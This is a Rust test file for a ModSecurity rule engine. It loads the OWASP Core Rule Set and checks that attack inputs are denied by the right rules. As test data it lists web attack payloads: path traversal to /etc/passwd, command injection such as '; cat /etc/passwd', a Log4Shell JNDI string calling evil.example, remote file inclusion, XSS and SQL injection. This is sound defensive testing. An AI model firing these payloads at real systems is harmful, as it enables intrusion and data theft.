//! The OWASP Core Rule Set as Debian publishes it (package `modsecurity-crs`); `cargo xtask test` installs it.

#![expect(clippy::unwrap_used, reason = "a test fails where it cannot go on")]

use std::path::Path;

use gatewright_seclang::{Detect, List, Options, Outcome, Request, RuleSet, Source, WORK};

const SETUP: &str = "/etc/modsecurity/crs/crs-setup.conf";
const RULES: &str = "/usr/share/modsecurity-crs/rules";

fn load(paranoia: u8) -> Option<RuleSet> {
    if !Path::new(RULES).is_dir() {
        eprintln!("skipped: {RULES} is not there; the package modsecurity-crs has it");
        return None;
    }
    let sources = [Source::Path(SETUP.into()), Source::Path(RULES.into())];
    Some(RuleSet::load(&sources, options(paranoia)).unwrap())
}

fn options(paranoia: u8) -> Options {
    Options {
        paranoia: Some(paranoia),
        threshold: None,
        work: WORK,
    }
}

struct Detectors;

impl Detect for Detectors {
    fn sqli(&self, value: &[u8]) -> bool {
        value.starts_with(b"1' or")
    }

    fn xss(&self, value: &[u8]) -> bool {
        value.starts_with(b"<script")
    }
}

fn asked<'r>(target: &'r str, values: &[(List, &'r str, &'r str)]) -> Request<'r> {
    let mut request = Request::default();
    let path = target.split('?').next().unwrap_or_default();
    request.set(List::Method, b"GET".as_slice());
    request.set(List::Protocol, b"HTTP/1.1".as_slice());
    request.set(List::Line, format!("GET {target} HTTP/1.1").into_bytes());
    request.set(List::Uri, target.as_bytes());
    request.set(List::Filename, path.as_bytes());
    request.set(List::RemoteAddr, b"192.0.2.1".as_slice());
    for (name, value) in [
        ("host", "api.example.com"),
        ("user-agent", "Mozilla/5.0 (X11; Linux x86_64)"),
        ("accept", "*/*"),
    ] {
        request.add(List::Headers, name.as_bytes(), value.as_bytes());
    }
    for (list, name, value) in values {
        request.add(*list, name.as_bytes(), value.as_bytes());
    }
    request
}

fn run(set: &RuleSet, request: &Request<'_>) -> Outcome {
    set.run(request, &Detectors, |_, _, _, _| false)
}

#[test]
fn the_published_rules_are_run_and_what_is_not_is_named() {
    let Some(set) = load(4) else { return };
    let ids: Vec<_> = set
        .unsupported()
        .iter()
        .filter_map(|unsupported| unsupported.id)
        .collect();
    // Look-arounds, what is kept between requests, and look-ups elsewhere.
    let known = [
        901318, 901410, 901420, 910000, 910100, 910110, 910120, 910130, 910140, 910150, 910160, 910170, 910180, 912120,
        912130, 912140, 912150, 912160, 912161, 912170, 912171, 920120, 942130, 942131, 949100,
    ];
    let unknown: Vec<_> = ids.iter().filter(|id| !known.contains(id)).collect();
    assert!(unknown.is_empty(), "{unknown:?}");
    assert!(set.rules() > 150, "{}", set.rules());
    assert!(set.beyond_requests() > 50, "{}", set.beyond_requests());
}

#[test]
fn rules_without_their_setup_are_said_to_deny_everything() {
    let Some(set) = load(1) else { return };
    assert_eq!(set.denies_all(), None);
    let set = RuleSet::load(&[Source::Path(RULES.into())], options(1)).unwrap();
    let (id, message) = set.denies_all().unwrap();
    assert!(id == 901_001 && message.contains("crs-setup.conf"), "{id}: {message}");
    assert_eq!(run(&set, &asked("/a", &[])).denied_by, Some(901_001));
}

#[test]
fn attacks_are_denied_by_the_rules_that_are_about_them_and_harmless_requests_by_none() {
    let Some(set) = load(1) else { return };
    for (value, id) in [
        ("../../../../etc/passwd", 930_120),
        ("http://198.51.100.7/evil.txt?", 931_100),
        ("; cat /etc/passwd", 932_100),
        ("<?php phpinfo(); ?>", 933_100),
        ("${jndi:ldap://evil.example/a}", 932_130),
        ("<script>alert(1)</script>", 941_100),
        ("1' or '1'='1", 942_100),
        ("a\r\nSet-Cookie: b=c", 921_120),
    ] {
        let outcome = run(&set, &asked("/a", &[(List::ArgsGet, "a", value)]));
        assert_eq!(outcome.denied_by, Some(949_110), "{value}: {outcome:?}");
        let ids: Vec<_> = outcome.matches.iter().map(|found| found.id).collect();
        assert!(ids.contains(&id), "{value}: {ids:?}");
        assert!(outcome.score >= 5);
    }
    let scanner = run(&set, &asked("/a", &[(List::Headers, "user-agent", "sqlmap/1.7")]));
    assert_eq!(scanner.denied_by, Some(949_110));
    for value in [
        "hello world",
        "42",
        "ann@example.com",
        "2024-01-01T10:00:00Z",
        "O'Brien",
        "V1StGXR8_Z5jdHi6B-myT",
    ] {
        let outcome = run(
            &set,
            &asked("/a?b=c", &[(List::ArgsGet, "a", value), (List::Cookies, "sid", value)]),
        );
        assert_eq!((outcome.denied_by, outcome.score), (None, 0), "{value}: {outcome:?}");
    }
}

#[test]
fn the_prefilter_leaves_out_nothing_that_matters() {
    for paranoia in [1, 4] {
        let (Some(set), Some(mut all)) = (load(paranoia), load(paranoia)) else {
            return;
        };
        all.without_prefilter();
        let values = [
            "../../etc/passwd",
            "a%3Cscript%3E",
            "SELECT * FROM users",
            "' or 1=1 --",
            "; ls -la",
            "$(id)",
            "<?php echo 1",
            "plain",
            "",
            "\\x3cscript",
            "&lt;img src=x onerror=alert(1)&gt;",
            "javascript:alert(1)",
            "java.lang.Runtime",
            "O:1:\"a\":0:{}",
            "%00",
            "a=b&c=d",
            "UNION/**/SELECT",
            "base64_decode(",
            "/.git/config",
            "x' waitfor delay '0:0:5'--",
            "${${a}}",
            "()=>{}",
            "\u{ff1c}script\u{ff1e}",
        ];
        for value in values {
            for list in [
                List::ArgsGet,
                List::ArgsPost,
                List::Cookies,
                List::Headers,
                List::Files,
                List::XmlText,
                List::Body,
            ] {
                let request = asked("/a?b=c", &[(list, "x", value)]);
                assert_eq!(run(&set, &request), run(&all, &request), "{paranoia} {list:?} {value}");
            }
        }
    }
}
